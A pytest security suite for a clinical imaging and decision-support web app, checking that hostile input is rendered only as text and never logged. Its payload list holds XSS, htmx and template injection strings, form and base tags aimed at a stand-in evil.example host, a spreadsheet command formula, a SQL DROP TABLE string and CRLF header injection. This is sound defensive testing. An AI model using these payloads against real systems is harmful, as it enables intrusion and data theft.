"""Hostile text through every door that takes text; then every page: shown as text, never as anything else."""

from __future__ import annotations

import html
import json
import logging
import secrets
from typing import Any
from urllib.parse import urlencode

import pydicom.config
import pytest
from django.urls import reverse

from cdss.assessments.models import Assessment
from cdss.jobs.running import jobs_run_due
from imaging.models import Quarantine, Study
from imaging.services.lifecycle import study_close
from imaging.services.quarantine import MAX_COMMENT_LENGTH
from patients.models import Patient, PatientIdentifier
from tests.cdss.dashboard.reading import policy_problems, tags_of
from tests.factories import MRN_SYSTEM, Hospital
from tests.security.test_headers import NONCE
from tests.security.world import JSON_TYPE, Caller, World, caller, ct, stow

pytestmark = pytest.mark.django_db
CANARY = "Zebrafink"  # in every payload: what a log line must not hold
PAYLOADS = {
    "script": f"<script>window.{CANARY}=1</script>",
    "closing tags": f"</td></table></main><script>{CANARY}</script>",
    "image": f'"><img src=x onerror={CANARY}()>',
    "vector": f"<svg/onload={CANARY}()>",
    "frame": f'<iframe srcdoc="<b>{CANARY}</b>"></iframe>',
    "link": f'<a href="javascript:{CANARY}()">x</a>',
    "style": f"<style>*{{background:url(//evil.example/{CANARY})}}</style>",
    "style attribute": f'" style="position:fixed" data-x="{CANARY}',
    "event attribute": f"' onmouseover='{CANARY}()' x='",
    "base": f'<base href="//evil.example/{CANARY}/">',
    "meta": f'<meta http-equiv="refresh" content="0;url=//evil.example/{CANARY}">',
    "form": f'</form><form action="//evil.example/{CANARY}"><button>',
    "text area": f"</textarea><script>{CANARY}</script>",
    "title": f"</title><script>{CANARY}</script>",
    "comment": f"--><script>{CANARY}</script><!--",
    "entity": f"&lt;script&gt;{CANARY}&#60;/script&#62;&amp;",
    "htmx attribute": f'" hx-get="/sign-out/?{CANARY}" hx-trigger="load',
    "htmx element": f'<div hx-nonce="x" hx-post="/sign-out/" hx-trigger="load">{CANARY}</div>',
    "htmx scripting": f"<b hx-on:load=\"{CANARY}()\" data-hx-get='/'>",
    "htmx out of band": f'<div id="main" hx-swap-oob="true">{CANARY}</div>',
    "template": f"{{{{ 70711234567|add:1 }}}}{{% debug %}}{{# {CANARY} #}}",
    "python format": f"%s%n{{0.__class__}}%(x)s{CANARY}",
    "formula": f"=cmd|' /C calc'!A0{CANARY}",
    "formula at": f"@SUM(1+1)*{CANARY}",
    "right to left": f"\u202e{CANARY}\u2066gnp.exe",
    "invisible": f"{CANARY}\u200b\u2028\u2029\ufeff\u00ad",
    "nul": f"{CANARY}\x00<b>",
    "line ends": f"{CANARY}\r\nSet-Cookie: a=b\r\n\r\n<b>",
    "escape sequence": f"\x1b[2J\x1b]0;{CANARY}\x07",
    "emoji": f"{CANARY}👩🏽‍⚕️🏳️‍🌈",
    "stacked marks": CANARY + "z̷̢̛" * 20,
    "quotes of SQL": f"'; DROP TABLE patients_patient; --{CANARY}",
    "wildcards": f"%_\\{CANARY}\\x",
    "long": CANARY + "W" * 5000,
    "very long": CANARY + "W" * 100_000,
    "white space": f"  \t {CANARY} \u3000\u00a0 ",
}
payloads = pytest.mark.parametrize("name", PAYLOADS)


def queries(text: str) -> str:
    """The text in every parameter that any page reads, and in one that none reads."""
    names = ("q", "state", "after", "mark", "asked", "action", "patient", "actor", "before", "next", "unknown")
    return urlencode(dict.fromkeys(names, text[:2000]))


def by_rest(system: Caller, text: str) -> None:
    identifier = {"system": text, "value": text}
    who = {"identifier": identifier, "family_name": text, "given_name": text, "birth_date": None, "sex": "female"}
    made = system.ask("POST", reverse("api-patients"), json.dumps(who), JSON_TYPE)
    assert made.status_code < 500
    plain = {"identifier": {"system": MRN_SYSTEM, "value": "HOSTILE-2"}, "family_name": "Plain", "birth_date": None}
    patient = system.ask("POST", reverse("api-patients"), json.dumps({**plain, "sex": "male"}), JSON_TYPE).json()["id"]
    rows = [{"code_system": text, "code": text, "source_id": text, "value_code": text}]
    rows += [{"code_system": "http://loinc.org", "code": "2093-3", "value": 200, "unit": text, "source_id": text}]
    rows += [{"code_system": "http://loinc.org", "code": "2093-3", "value": text, "unit": "mg/dL"}]
    rows += [{"code_system": "http://loinc.org", "code": "2093-3", "value": 200, "unit": "mg/dL", "source_id": text}]
    for row in rows:
        sent = json.dumps({**row, "effective_at": "2026-01-02T03:04:05Z"})
        assert system.ask("POST", reverse("api-observations", args=[patient]), sent, JSON_TYPE).status_code < 500
    for kind in ("api-conditions", "api-medication-statements"):
        sent = json.dumps({"code_system": text, "code": text, "source_id": text})
        assert system.ask("POST", reverse(kind, args=[patient]), sent, JSON_TYPE).status_code < 500
    for address in ("api-patients", "api-studies", "api-measurements", "api-assessments"):
        for parameter in ("name", "identifier", "cursor", "patient", "current", "limit", text[:100]):
            asked = f"{reverse(address)}?{urlencode({parameter: text[:2000]})}"
            assert system.ask("GET", asked).status_code < 500


def by_dicom(at: Hospital, text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """One image of a patient of that name, and one that contradicts it and is kept apart."""
    monkeypatch.setattr(pydicom.config.settings, "writing_validation_mode", pydicom.config.IGNORE)
    monkeypatch.setattr(pydicom.config.settings, "reading_validation_mode", pydicom.config.IGNORE)
    described = dict.fromkeys(("SeriesDescription", "StudyDescription", "AccessionNumber"), text[:60000])
    described["BodyPartExamined"] = text[:60000].encode("ascii", "replace").decode()  # CS knows no other letters
    options = {"SpecificCharacterSet": "ISO_IR 192", "seed": "hostile", "PatientID": "HOSTILE-1", **described}
    name = text if len(text) < 200 else text[:200]
    assert stow(at, ct(0, PatientName=f"{name}^{name}", **options)).status_code < 500
    assert (
        stow(at, ct(1, PatientName=f"{name}^{name}", **{**options, "PatientBirthDate": "19500101"})).status_code < 500
    )
    assert stow(at, ct(2, PatientName=name, **{**options, "PatientID": name})).status_code < 500


def by_people(at: Hospital, text: str) -> None:
    """Comments of a clinician and of an administrator, and everything a browser sends along."""
    clinician, administrator = caller(at, "clinician"), caller(at, "administrator")
    for record in Assessment.objects.all():
        sent = {"kind": "OVERRIDE", "reason": "OTHER", "comment": text, "key": text[:64]}
        answered = clinician.ask("POST", reverse("review", args=[record.id]), sent)
        assert answered.status_code in {303, 409, 422}
        refused = clinician.ask("POST", reverse("review", args=[record.id]), {**sent, "kind": text, "reason": text})
        assert refused.status_code in {409, 422}
        assert_only_text(refused, text, "refused review")
    for apart in Quarantine.objects.filter(state="OPEN"):
        address = reverse("quarantine-decide", args=[apart.id])
        refused = administrator.ask("POST", address, {"decision": text, "comment": text})
        assert refused.status_code == 422
        assert_only_text(refused, text, "refused decision")
        decided = administrator.ask("POST", address, {"decision": "reject", "comment": text})
        assert decided.status_code in ({422} if len(text) > MAX_COMMENT_LENGTH else {303, 409})
        apart.refresh_from_db()
        assert (apart.state == "OPEN") == (decided.status_code == 422)
    nobody = caller(None, "anonymous")
    refused = nobody.ask("POST", "/sign-in/", {"username": text, "password": text, "next": text})
    assert refused.status_code == 422
    assert_only_text(refused, text, "refused sign-in")
    who = Patient.objects.filter(organisation=at.organisation)[0]
    answers = {"answer-smoking": text, "seen-smoking": text, text[:100]: text}
    assert_only_text(clinician.ask("POST", reverse("answers", args=[who.id]), answers), text, "answers")


def assert_only_text(response: Any, text: str, where: str) -> None:
    assert response.status_code < 500, where
    page = response.content.decode()
    if any(letter in text for letter in "<>\"'"):
        assert text not in page, where
    assert policy_problems(response.content, NONCE.findall(response["Content-Security-Policy"])[0]) == [], where
    tags = tags_of(response.content)
    assert {tag for tag, _ in tags} & {"iframe", "base", "object", "embed"} == set(), where
    assert all(CANARY.lower() not in f"{tag}{list(attributes)}".lower() for tag, attributes in tags), where
    assert "70711234568" not in page, where
    assert not response.cookies.get("a")


@payloads
def test_hostile_text_is_shown_as_text_everywhere_and_logged_nowhere(
    hospital: Hospital, name: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    text = PAYLOADS[name]
    caplog.set_level(logging.DEBUG)
    hospital.clinician.full_name = text[:300].replace("\x00", "")
    hospital.clinician.save()
    system = caller(hospital, "client")
    by_rest(system, text)
    by_dicom(hospital, text, monkeypatch)
    for study in Study.objects.all():
        study_close(actor=hospital.client_actor, study=study)
    jobs_run_due()
    by_people(hospital, text)
    jobs_run_due()
    visit(hospital, text)
    seen_as_sent = PatientIdentifier.objects.filter(patient__family_name__contains=CANARY).exists()
    assert seen_as_sent or name in {"nul", "line ends", "escape sequence", "wildcards"}, "no door let it in"
    assert [record.getMessage() for record in caplog.records if CANARY in record.getMessage()] == []
    assert [r.exc_text for r in caplog.records if r.exc_info] == []


def visit(at: Hospital, text: str) -> None:
    """Every page of every role, with the text in every parameter and in the browser's own headers."""
    headers = {"User-Agent": text[:4000], "Referer": text[:4000], "Accept-Language": text[:4000]}
    patients, records = list(Patient.objects.all()), list(Assessment.objects.all())
    addresses = [
        "/",
        "/?state=ALL",
        "/worklist/changes/",
        "/patients/",
        "/quarantine/",
        "/audit/",
        "/about/",
        "/sign-in/",
    ]
    addresses += [reverse(name, args=[row.id]) for row in patients for name in ("patient", "patient-work")]
    addresses += [reverse("assessment", args=[record.id]) for record in records]
    shown = ""
    for role in ("clinician", "administrator", "auditor", "anonymous"):
        who = caller(None if role == "anonymous" else at, role)
        for address in addresses:
            for asked in (address, f"{address}{'&' if '?' in address else '?'}{queries(text)}"):
                response = who.ask("GET", asked, **headers)
                assert_only_text(response, text, f"{role} {asked[:80]}")
                shown += html.unescape(response.content.decode())
    assert CANARY in shown
    system = caller(at, "client")
    for address in ("api-patients", "api-studies", "api-assessments", "api-measurements"):
        response = system.ask("GET", reverse(address), **headers)
        assert (response.status_code, response["Content-Type"]) == (200, "application/json")
        assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("address", ["/patients/?q=", "/?state=ALL&q=", "/api/v1/patients?name="])
def test_search_of_many_words_costs_no_more_than_one_of_few(hospital: Hospital, address: str) -> None:
    """Every word is a condition of the query: without a limit, one request keeps the database busy for minutes."""
    who = caller(hospital, "client" if "api" in address else "clinician")
    assert who.ask("GET", address + "a+b+c").status_code == 200
    refused = who.ask("GET", address + "+".join("a" for _ in range(100)))
    assert refused.status_code in {400, 422}
    assert "words" in refused.content.decode()


PLACES = ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "2000-01-01T00:00:00+23:59:59.999999", "x", "NaN"]


@pytest.mark.parametrize("place", PLACES)
def test_odd_place_in_the_worklist_is_still_an_answer(hospital: Hospital, place: str) -> None:
    asked = urlencode({"state": "ALL", "after": f"{place},{hospital.clinician.id}"})
    response = caller(hospital, "clinician", raise_request_exception=False).ask("GET", f"/?{asked}")
    assert response.status_code == 200


def test_odd_key_of_an_answer_is_refused_or_kept_but_never_our_failure(world: World) -> None:
    who = caller(world.own, "clinician", raise_request_exception=False)
    sent = {"kind": "ACKNOWLEDGE", "key": secrets.token_hex(5000)}
    assert who.ask("POST", reverse("review", args=[world.assessment.id]), sent).status_code < 500
